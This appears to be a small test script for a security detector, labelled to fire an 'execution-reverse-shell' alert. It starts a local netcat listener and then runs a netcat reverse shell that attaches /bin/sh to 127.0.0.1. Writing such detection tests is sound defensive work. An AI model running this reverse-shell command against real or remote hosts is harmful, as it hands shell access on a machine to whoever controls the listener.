# in: host nc.traditional
# fires: execution-reverse-shell
nc.traditional -l -p 47442 -q 1 < /dev/null > /dev/null &
sleep 0.3
nc.traditional -e /bin/sh 127.0.0.1 47442
